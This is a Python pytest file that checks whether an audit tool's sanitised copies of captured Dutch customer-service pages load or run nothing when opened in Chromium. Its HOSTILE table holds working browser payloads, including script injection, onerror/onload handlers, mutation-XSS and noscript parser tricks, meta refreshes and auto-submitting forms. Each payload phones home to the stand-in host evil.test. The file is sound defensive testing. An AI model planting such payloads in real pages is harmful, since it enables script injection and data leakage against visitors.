"""The sanitised copy of a captured page, opened in Chromium as an analyst opens it from report.html.

Every request the page makes is recorded (``page.on("request")`` and a route that aborts anything not the
copy's own file), so a copy that loads, refreshes, submits or runs anything fails here.  The raw pages are
opened the same way first, so each hostile page is shown to do what it is meant to in a real Chromium.
"""

from __future__ import annotations

import os
from pathlib import Path

import pytest
from playwright.sync_api import Error as PlaywrightError

from audits.evidence_files import read_evidence
from serpaudit.crawl.evidence import EvidenceFolder, safe_copy_path
from tests.support.marks import require

pytestmark = pytest.mark.browser

NUMBER = "Bel 0900 123 4567"
# Each script marks the window and phones home, so a script that ran shows both ways.
RUN = "window.__ran=1;fetch('http://evil.test/ran')"

HOSTILE = {
    "svg_style_meta_refresh": '<svg><style><meta http-equiv="refresh" content="0;url=http://evil.test/svg"></style></svg>',
    "meta_refresh": '<meta http-equiv="refresh" content="0;url=http://evil.test/meta">',
    "script": f'<script>{RUN}</script><script src="http://evil.test/s.js"></script>',
    "images": ('<img src="http://evil.test/p.gif"><img srcset="http://evil.test/s.gif 1x">'
               '<picture><source srcset="http://evil.test/pic.gif"><img src="data:,x"></picture>'
               '<input type="image" src="http://evil.test/in.gif"><video poster="http://evil.test/v.gif"></video>'),
    "stylesheets": ('<link rel="stylesheet" href="http://evil.test/a.css"><link rel="icon" href="http://evil.test/i">'
                    '<link rel="prefetch" href="http://evil.test/pf">'),
    "css_url": ('<style>@import "http://evil.test/imp.css"; body{background:url(http://evil.test/bg)}</style>'
                '<p style="background-image:url(http://evil.test/inline)">x</p>'),
    "iframes": (f'<iframe srcdoc="<script>parent.{RUN}</script><img src=http://evil.test/sd>"></iframe>'
                '<iframe src="http://evil.test/frame"></iframe><object data="http://evil.test/o"></object>'
                '<embed src="http://evil.test/e">'),
    "base_href": '<base href="http://evil.test/"><img src="rel.gif"><a href="rel">relative</a>',
    "javascript_links": (f'<a id="j" href="javascript:{RUN}">call now</a>'
                         '<a href="http://evil.test/out">out</a><a href="//evil.test/proto">proto</a>'),
    "handlers": (f'<img src="x:" onerror="{RUN}"><body onload="{RUN}"><details open ontoggle="{RUN}">d</details>'
                 f'<input autofocus onfocus="{RUN}"><svg onload="{RUN}"></svg>'),
    "forms": ('<form id="f" action="http://evil.test/post" method="post"><input name="a" value="1"></form>'
              '<script>document.getElementById("f").submit()</script>'
              '<form><button formaction="http://evil.test/b">go</button></form>'),
    "mutation": ('<math><mtext><table><mglyph><style><img src=x: onerror="' + RUN + '">'
                 '</style></mglyph></table></mtext></math>'
                 '<noscript><p title="</noscript><img src=x: onerror=' + RUN.replace("'", "&#39;") + '>"></noscript>'
                 '<!--><img src="http://evil.test/comment">-->'
                 '<svg><image href="http://evil.test/svgimg"/><use href="http://evil.test/u#x"/></svg>'
                 '<template><img src="http://evil.test/tpl"></template>'),
}


def page_of(payload: str) -> bytes:
    return (f"<!DOCTYPE html><html><head><title>Klantenservice</title></head><body><h1>Klantenservice</h1>"
            f"<p>{NUMBER}</p>{payload}<p>24/7 bereikbaar</p></body></html>").encode()


@pytest.fixture(scope="module")
def chromium():
    from playwright.sync_api import sync_playwright

    from crawler.browser import BrowserNotFound, find_chromium

    try:
        path = find_chromium(os.environ.get("SERPAUDIT_BROWSER_PATH") or None)
    except BrowserNotFound as e:
        pytest.skip(f"no Chromium: {e}")
    with sync_playwright() as p:
        browser = p.chromium.launch(executable_path=path)
        try:
            yield browser
        finally:
            browser.close()


@pytest.fixture
def open_recorded(chromium):
    """``open_recorded(path) -> dict``: what opening the file did in a fresh context within ~1.5 s."""
    require("browser", "runs Chromium")

    def run(path: str, click_links: bool = False) -> dict:
        url = Path(path).as_uri()
        context = chromium.new_context()
        requests: list[str] = []
        routed: list[str] = []

        def route(r):
            routed.append(r.request.url)
            if r.request.url == url:
                r.continue_()
            else:
                r.abort()

        try:
            context.route("**/*", route)
            page = context.new_page()
            page.on("request", lambda req: requests.append(req.url))
            navigations: list[str] = []
            page.on("framenavigated", lambda f: navigations.append(f.url) if f == page.main_frame else None)
            page.goto(url)
            page.wait_for_timeout(1500)
            if click_links:
                for link in page.locator("a").all():
                    try:
                        link.click(timeout=2000, no_wait_after=True)
                    except PlaywrightError:  # the raw page's first link took it away
                        break
                page.wait_for_timeout(500)
            return {"requests": requests + [u for u in routed if u not in requests], "navigations": navigations,
                    "url": page.url, "ran": page.evaluate("window.__ran === 1"),
                    "text": page.inner_text("body"), "url_expected": url,
                    "tags": page.evaluate("[...document.querySelectorAll('*')].map(e => e.localName)"),
                    "metas": page.evaluate("[...document.querySelectorAll('meta')].map(m => m.outerHTML)")}
        finally:
            context.close()

    return run


@pytest.fixture
def written(tmp_path):
    ev = EvidenceFolder(tmp_path / "evidence", "run-1")

    def write(name: str, payload: str) -> tuple[str, str]:
        stored, _ = ev.write(f"landing-{name}", ".html", page_of(payload))
        # the raw page is stored gzipped: opened as an analyst who unpacks it would (what a platform zip holds)
        raw = tmp_path / f"raw-{name}.html"
        raw.write_bytes(read_evidence(stored))
        return str(raw), safe_copy_path(stored)

    return write


@pytest.mark.parametrize("name", sorted(HOSTILE))
def test_the_safe_copy_loads_nothing_runs_nothing_and_stays_put(name, written, open_recorded) -> None:
    raw, safe = written(name, HOSTILE[name])
    before = open_recorded(raw, click_links=True)  # the hostile page, opened as it is, does harm in this very Chromium
    assert before["ran"] or any("evil.test" in u for u in before["requests"] + before["navigations"]), before
    seen = open_recorded(safe, click_links=True)
    assert seen["requests"] == [seen["url_expected"]], seen["requests"]
    assert seen["navigations"] == [seen["url_expected"]] and seen["url"] == seen["url_expected"]
    assert not seen["ran"]
    assert NUMBER in seen["text"] and "24/7 bereikbaar" in seen["text"]


def test_chromium_builds_only_inert_elements_from_every_copy(written, open_recorded) -> None:
    _, safe = written("all", "".join(HOSTILE.values()))
    seen = open_recorded(safe)
    inert = {"html", "head", "body", "meta", "title", "style", "div", "code", "h1", "p", "a", "details"}
    assert set(seen["tags"]) <= inert, set(seen["tags"]) - inert
    assert seen["tags"].count("style") == 1 and len(seen["metas"]) == 3  # the copy's own header, nothing else
    assert not any("refresh" in m or "evil" in m for m in seen["metas"]), seen["metas"]
    assert seen["requests"] == [seen["url_expected"]] and not seen["ran"]


def test_a_tel_link_keeps_the_number_it_dials_and_other_links_keep_their_text(written) -> None:
    _, safe = written("tel", '<a href="tel:+319001234567">bel ons</a><a href="https://evil.test/x">site</a>')
    text = Path(safe).read_text(encoding="utf-8")
    assert '<a href="tel:+319001234567">bel ons</a>' in text and "<a>site</a>" in text and "evil.test" not in text
